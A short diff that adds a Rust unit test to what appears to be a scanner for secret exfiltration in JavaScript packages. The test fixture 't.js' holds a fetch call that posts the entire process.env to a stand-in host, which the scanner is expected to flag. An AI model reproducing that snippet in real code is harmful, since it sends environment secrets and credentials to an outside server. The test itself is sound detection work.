@@ -123,4 +123,19 @@ mod tests {
         ]);
         assert!(hits(&s, "code/env-exfiltration").is_empty());
     }
+
+    #[test]
+    fn positive_env_inside_serialised_object() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "t.js",
+                "async function ping(u) {\n  await fetch(u, { method: 'POST', body: JSON.stringify({ v: 1, e: process.env }) });\n}\nping('https://t.example.com');\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("t.js".to_string(), 2)]
+        );
+    }
 }
